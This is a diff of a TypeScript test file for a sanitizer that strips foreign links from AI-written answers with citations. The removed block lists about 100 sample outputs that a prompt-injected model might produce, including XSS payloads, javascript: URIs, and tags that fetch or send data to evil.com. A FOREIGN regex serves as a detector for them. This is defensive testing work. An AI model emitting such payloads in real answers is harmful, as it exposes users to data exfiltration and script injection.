@@ -1,5 +1,6 @@
 import fc from 'fast-check'
 import { describe, expect, test } from 'vitest'
+import { POISONED_ANSWERS } from '../testing/poisoned-answers.ts'
 import type { CitedArticle } from './citations.ts'
 import { groundMarkdown } from './ground-markdown.ts'
 
@@ -68,11 +69,11 @@ describe('citations', () => {
       article(1, {
         title: 'x](https://evil.com) <img src=//evil.com/a> [y',
         source: 'evil.com ![p](http://evil.com/p.png)',
-        url: 'https://news.example.org/a(1)"><b>',
+        url: 'https://news.example.org/a(1)"><b>?a=1&copy;=2',
       }),
     ])
     expect(markdown).not.toMatch(/evil|<|!\[/)
-    expect(markdown).toContain('(https://news.example.org/a%281%29%22%3E%3Cb%3E)')
+    expect(markdown).toContain('(https://news.example.org/a%281%29%22%3E%3Cb%3E?a=1&amp;copy;=2)')
   })
 })
 
@@ -101,124 +102,6 @@ describe('what an ordinary answer keeps', () => {
   })
 })
 
-/** What an obedient model might write after it read a poisoned page. {u} is a foreign address. */
-const POISON = [
-  '[คลิก](https://evil.com/x)',
-  '[คลิก](<https://evil.com/x y> "t")',
-  '[คลิก]( https://evil.com/x )',
-  '[คลิก](//evil.com/x)',
-  '[คลิก](evil.com)',
-  '[คลิก](/\\evil.com)',
-  '[คลิก](javascript:alert(1))',
-  '[คลิก](JaVaScRiPt:alert%281%29)',
-  '[คลิก](java\nscript:alert(1))',
-  '[คลิก](data:text/html;base64,PHNjcmlwdD4=)',
-  '[คลิก](vbscript:msgbox)',
-  '[คลิก](mailto:a@evil.com?subject=x)',
-  '[คลิก](tel:+66812345678)',
-  '[a[b]c](https://evil.com/(x)y)',
-  '[a\nb](https://evil.com)',
-  '[![x](https://evil.com/i.png)](https://evil.com)',
-  '[คลิก][1]\n\n[1]: https://evil.com/x',
-  '[คลิก][e]\n\n[e]: https://evil.com/x "t"',
-  '[คลิก][e]\n\n[e]:\n  <https://evil.com/x>',
-  '[e]\n\n[e]: //evil.com',
-  '[e][]\n\n[e]: data:text/html,x',
-  '> [e]: https://evil.com\n\n[e]',
-  '![x](https://evil.com/i.png)',
-  '![x](data:image/png;base64,AAAA)',
-  '![x][i]\n\n[i]: https://evil.com/i.png',
-  '![](//evil.com/i.gif "t")',
-  '! [x](https://evil.com/i.png)',
-  '<https://evil.com>',
-  '<a@evil.com>',
-  '<mailto:a@evil.com>',
-  '<javascript:alert(1)>',
-  '<a href="https://evil.com">คลิก</a>',
-  "<a href='//evil.com'>คลิก",
-  '<A\nHREF=https://evil.com>คลิก</A>',
-  '<img src=https://evil.com/i.png>',
-  '<img src=x onerror="fetch(`//evil.com`)"',
-  '<img\nsrc="https://evil.com/i.png"\n/>',
-  '<script>location="https://evil.com"</script>',
-  '<script src=//evil.com/x.js></script >',
-  '<iframe src="https://evil.com"></iframe>',
-  '<svg onload=alert(1)><a xlink:href="https://evil.com">x</a></svg>',
-  '<style>@import url(https://evil.com/x.css)</style>',
-  '<div style="background:url(https://evil.com/i.png)">x</div>',
-  '<form action="https://evil.com"><input name=q></form>',
-  '<base href="https://evil.com/">',
-  '<meta http-equiv=refresh content="0;url=https://evil.com">',
-  '<link rel=stylesheet href=//evil.com/x.css>',
-  '<object data="https://evil.com"></object>',
-  '<video poster="https://evil.com/p.png"><source src="//evil.com/v"></video>',
-  '<!-- https://evil.com --> x <!-- https://evil.com',
-  '<![CDATA[ https://evil.com ]]>',
-  '<a<b> href="https://evil.com">x</a>',
-  '<scr<script>ipt>alert(1)</script>',
-  'https://evil.com/path?q=1#f',
-  'HTTPS://EVIL.COM/PATH',
-  'http://evil.com:8080/x',
-  'https:/evil.com',
-  'https:\\\\evil.com\\x',
-  'hxxps://evil.com/x',
-  'ftp://evil.com/x',
-  'เว็บไซต์https://evil.com/xต่อ',
-  'https://ธนาคาร.ไทย/ข่าว',
-  'http://203.0.113.9/login',
-  '203.0.113.9/login',
-  'http://[2001:db8::1]/x',
-  'http://2130706433/x',
-  'www.evil.com/x',
-  'WWW.evil.com',
-  'evil.com',
-  'evil.co.th',
-  'เว็บevil.comต่อ',
-  'Evil.Com/login',
-  'sub.domain.evil.xyz',
-  'evil-phish.example',
-  'bit.ly/3xYz',
-  't.me/evil',
-  'evil.banana/login',
-  'xn--e1aybc.xn--p1ai',
-  'localhost:3000/api',
-  '//evil.com/x',
-  'a@evil.com',
-  'ติดต่อ a.b+c@mail.evil.com ด่วน',
-  'สมชาย@evil.com',
-  'a [at] evil [dot] com',
-  'a(at)evil(dot)com',
-  '@evil_line',
-  'LINE: @evil99',
-  '&#104;&#116;&#116;&#112;s://evil.com',
-  '&#x68;ttps&colon;//evil&period;com',
-  '&lt;img src=https://evil.com/i.png&gt;',
-  '&amp;lt;a href=https://evil.com&amp;gt;x',
-  'https\\://evil\\.com',
-  '\\[x\\]\\(https://evil.com\\)',
-  'h\u200bttps://ev\u200bil.com',
-  'ev\u00adil.com',
-  '\u202ehttps://evil.com',
-  'ｈｔｔｐｓ：／／ｅｖｉｌ．ｃｏｍ',
-  'evil。com',
-  '**https://evil.com**',
-  'ev**il**.com',
-  '`https://evil.com`',
-  '```\nhttps://evil.com\n```',
-  '~~~html\n<img src="//evil.com">\n~~~',
-  '    https://evil.com',
-  'htthttps://evil.comps://evil.com',
-  'ev<b></b>il.com',
-  '[Source: https://evil.com/a, 2026-11-20]',
-  '| [x](https://evil.com) | ![y](//evil.com/p) |',
-  '# [x](https://evil.com)',
-  '- [ ] [x](https://evil.com)',
-  '[x](https://news.example.org.evil.com/a/1)',
-  '{{email}} {{unsubscribe_url}} {{{name}}}',
-  '[x](https://news.example.org@evil.com/a/1)',
-  'โทร +66 2 123 4567 หรือ 02-123-4567 หรือ 0812345678',
-]
-
 const OWN = /\(https:\/\/news\.example\.org\/a\/[123]\)/g
 const FOREIGN =
   /evil|ธนาคาร\.ไทย|https?:|ftp:|\/\/|www\.|javascript|vbscript|data:|mailto|tel:|@|<[a-z/!?]|!\[|\]\(|\]:|src=|href=|\d{1,3}(\.\d{1,3}){3}|xn--|localhost:|bit\.ly|t\.me|\d{3}-\d{4}|0812345678|&[#a-z]|\{\{/i
@@ -226,9 +109,9 @@ const FOREIGN =
 const WORDS = /\bevil(?=[\s*]|$)|ev\*\*il|(?<=[\s*]|^)evil\b(?!\.)/gi
 
 describe('a model that obeys the page it read', () => {
-  test(`${POISON.length} poisoned answers: no foreign address, image or tag is left`, () => {
-    expect(POISON.length).toBeGreaterThanOrEqual(100)
-    const failed = POISON.flatMap((poison) =>
+  test(`${POISONED_ANSWERS.length} poisoned answers: no foreign address, image or tag is left`, () => {
+    expect(POISONED_ANSWERS.length).toBeGreaterThanOrEqual(100)
+    const failed = POISONED_ANSWERS.flatMap((poison) =>
       [poison, `ก [1] ${poison} ข [2]`, `- **ก** ${poison}\n- ข [3]`, `${poison}\n\nก [1]`].flatMap(
         (input) => {
           const { markdown } = groundMarkdown(input, articles)
@@ -246,7 +129,7 @@ describe('a model that obeys the page it read', () => {
 
   test('any mixture of the poisons is clean as well', () => {
     const piece = fc.oneof(
-      fc.constantFrom(...POISON),
+      fc.constantFrom(...POISONED_ANSWERS),
       fc.constantFrom(
         ' ',
         '\n\n',
